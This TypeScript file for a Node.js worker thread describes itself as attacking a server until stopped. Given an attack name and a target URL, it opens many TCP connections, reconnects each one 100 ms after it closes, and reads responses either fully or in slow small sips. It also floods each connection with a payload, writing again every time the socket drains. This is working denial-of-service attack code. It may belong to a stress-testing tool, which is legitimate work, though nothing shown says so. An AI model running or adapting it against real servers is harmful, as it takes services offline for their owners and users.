/** A thread that attacks a server until stopped: it gets the name of the attack and the target. */
import { connect } from 'node:net'
import { workerData } from 'node:worker_threads'
import type { Attack, Target } from './attacks.ts'
import { ATTACKS } from './attacks.ts'

export interface Orders extends Target {
  readonly attack: string
}

/** An attacker reconnects this many milliseconds after the server has ended a connection. */
const AGAIN = 100
/** Slow readers take this many bytes in this many milliseconds. */
const SIP = 1_024
const SLOWLY = 200

const { attack, ...target } = workerData as Orders
const plan = ATTACKS[attack] as Attack
const bytes = plan.flood?.(target) ?? null
for (let i = 0; i < plan.connections; i++) open()

function open(): void {
  const { hostname, port } = new URL(target.url)
  const line = connect(Number(port), hostname)
  line.on('error', () => {})
  line.on('close', () => setTimeout(open, AGAIN))
  if (plan.reads === 'all') line.resume()
  if (plan.reads === 'slowly') {
    const sipping = setInterval(() => line.read(SIP) ?? line.read(), SLOWLY)
    line.on('close', () => clearInterval(sipping))
  }
  line.write(plan.opening(target))
  if (bytes !== null) flood(bytes)

  function flood(chunk: Buffer): void {
    while (line.writable && line.write(chunk));
    line.once('drain', () => flood(chunk))
  }
}
